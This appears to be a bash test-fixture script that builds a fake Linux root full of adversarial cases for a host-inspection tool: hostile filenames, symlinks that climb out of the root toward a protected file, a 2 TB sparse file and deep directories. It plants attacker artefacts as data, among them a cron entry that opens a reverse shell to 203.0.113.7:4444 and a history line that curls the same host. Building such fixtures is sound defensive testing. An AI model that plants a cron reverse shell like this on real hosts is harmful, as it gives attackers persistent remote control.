#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Makes a small Linux root in $1 that tries everything a host can try with names, types and links; $2 is a file
# outside it that must never be read.
set -eu
root=$1 outside=$2
mkdir -p "$root"/{etc/cron.d,etc/systemd/system,var/log/apt,home/alice/.ssh,root/.ssh,tmp,run,usr/bin,dev,proc,sys}
cd "$root"
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n' > etc/passwd
printf 'root:x:0:\nalice:x:1000:\n' > etc/group
printf 'root:*:19000:0:99999:7:::\n' > etc/shadow
printf 'web01\n' > etc/hostname
printf '0123456789abcdef0123456789abcdef\n' > etc/machine-id
printf 'ID=debian\nNAME="Debian"\nPRETTY_NAME="Debian 12"\nVERSION_ID="12"\n' > etc/os-release
printf '* * * * * root /bin/sh -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' > etc/cron.d/evil
printf 'export HISTSIZE=0\n' > home/alice/.bashrc
printf 'curl http://203.0.113.7/x\n' > home/alice/.bash_history
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests alice@web01\n' > home/alice/.ssh/authorized_keys
printf 'Nov 23 10:00:00 web01 sshd[1]: Accepted publickey for alice\n' > var/log/auth.log
# names
printf 'newline\n' > "var/log/a"$'\n'"b.log"
printf 'escape\n' > "var/log/"$'\e'"[31mred.log"
printf 'bytes\n' > "var/log/"$'\xff\xfe'"raw.log"
printf 'space\n' > "var/log/trailing "
printf 'dash\n' > "var/log/-rf"
printf 'long\n' > "var/log/$(printf 'x%.0s' {1..255})"
printf 'quote\n' > "var/log/\"quoted'.log"
printf 'percent\n' > "var/log/50%=2E.log"
printf 'same\n' > "var/log/CASE.log"
printf 'same\n' > "var/log/case.log"
# types
mkfifo var/log/fifo.log
ln -s /run var/run
ln -s "$outside" var/log/absolute.log
ln -s "../../../../../../../../../../../../../../..$outside" var/log/climbing.log
ln -s loop.log var/log/loop.log
ln -s nowhere var/log/dangling.log
ln -s / var/log/rootlink
ln var/log/auth.log var/log/hardlink.log
# sizes and times
truncate -s 2T var/log/sparse.log
printf 'needle' | dd of=var/log/sparse.log bs=1 seek=1099511627776 conv=notrunc status=none
: > var/log/empty.log
touch -d '1969-12-31 23:59:58.5 UTC' var/log/empty.log
# more than one record can hold: 3,000 ranges of a sparse file, and a path whose characters take six bytes each in JSON
python3 - <<'END'
import os
with open("var/log/ranges.log", "wb") as f:
    for i in range(3000):
        f.seek(i * 65536)
        f.write(b"%04d" % i * 1024)
os.chdir("tmp")
for i in range(60):
    os.mkdir("\x01" * 250)
    os.chdir("\x01" * 250)
END
